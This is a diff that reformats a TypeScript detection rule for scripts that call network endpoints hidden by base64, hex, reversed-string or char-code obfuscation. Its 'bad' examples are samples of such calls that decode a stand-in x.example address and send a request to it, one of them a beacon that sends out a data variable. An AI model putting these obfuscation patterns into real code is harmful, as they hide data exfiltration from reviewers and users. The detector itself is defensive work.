@@ -24,7 +24,14 @@ export const hiddenEndpoint = defineRule({
     for (const request of requestsOf(script)) {
       const host = hostOf(request.to);
       // Known only because it was decoded: nowhere in the script does it stand in plain.
-      if (host === undefined || told.has(host) || !/^[\w-]+(\.[\w-]+)+$/.test(host) || request.to.indexOf('://', 8) > 0 || standsPlain(script, host)) continue;
+      if (
+        host === undefined ||
+        told.has(host) ||
+        !/^[\w-]+(\.[\w-]+)+$/.test(host) ||
+        request.to.indexOf('://', 8) > 0 ||
+        standsPlain(script, host)
+      )
+        continue;
       told.add(host);
       yield hit(request.value, { confidence: 'high', message: `Decoded, it is ${request.to.slice(0, 100)}.` });
     }
@@ -39,18 +46,29 @@ export const hiddenEndpoint = defineRule({
       const host = address === undefined ? undefined : hostOf(address);
       if (address === undefined || host === undefined || told.has(host)) continue;
       told.add(host);
-      yield hit(value, { message: `Decoded, it is ${address.slice(0, 100)}.`, ...(standsPlain(script, host) ? { severity: 'low' as const } : {}) });
+      yield hit(value, {
+        message: `Decoded, it is ${address.slice(0, 100)}.`,
+        ...(standsPlain(script, host) ? { severity: 'low' as const } : {}),
+      });
     }
   }),
   examples: {
     bad: [
       backgroundExample('fetch(atob("aHR0cHM6Ly94LmV4YW1wbGUvYXBp"));'),
-      backgroundExample('const h = "68747470733a2f2f782e6578616d706c652f63"; let u = ""; for (let i = 0; i < h.length; i += 2) u += String.fromCharCode(parseInt(h.substr(i, 2), 16)); fetch(u);'),
-      backgroundExample('const a = "gifnoc/elpmaxe.x//:sptth".split("").reverse().join(""); const x = new XMLHttpRequest(); x.open("GET", a); x.send();'),
-      backgroundExample('navigator.sendBeacon(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101), d);'),
+      backgroundExample(
+        'const h = "68747470733a2f2f782e6578616d706c652f63"; let u = ""; for (let i = 0; i < h.length; i += 2) u += String.fromCharCode(parseInt(h.substr(i, 2), 16)); fetch(u);',
+      ),
+      backgroundExample(
+        'const a = "gifnoc/elpmaxe.x//:sptth".split("").reverse().join(""); const x = new XMLHttpRequest(); x.open("GET", a); x.send();',
+      ),
+      backgroundExample(
+        'navigator.sendBeacon(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101), d);',
+      ),
     ],
     good: [
-      backgroundExample('fetch("https://api.example.com/" + path); const img = atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA");'),
+      backgroundExample(
+        'fetch("https://api.example.com/" + path); const img = atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA");',
+      ),
       backgroundExample('const base = ["https://", "api.example.com"].join(""); fetch(base + "/v1");'),
       backgroundExample('const u = atob(settings.url); fetch(u);'),
     ],
@@ -66,7 +84,11 @@ function listsOfCodes(script: ScriptFacts): { value: number; address: string }[]
     if (script.op[value] !== Op.array) continue;
     const items = listOf(script, script.a[value] as number);
     if (items.length < 10 || items.length > 500) continue;
-    const codes = items.map((item) => (script.op[item] === Op.constant && script.b[item] === ConstKind.number ? Number(script.strings[script.a[item] as number]) : 0));
+    const codes = items.map((item) =>
+      script.op[item] === Op.constant && script.b[item] === ConstKind.number
+        ? Number(script.strings[script.a[item] as number])
+        : 0,
+    );
     if (codes[0] !== 104 && codes[0] !== 119) continue;
     const text = String.fromCharCode(...codes);
     if (/^(https?|wss?):\/\/[\w.-]+/.test(text)) out.push({ value, address: text });
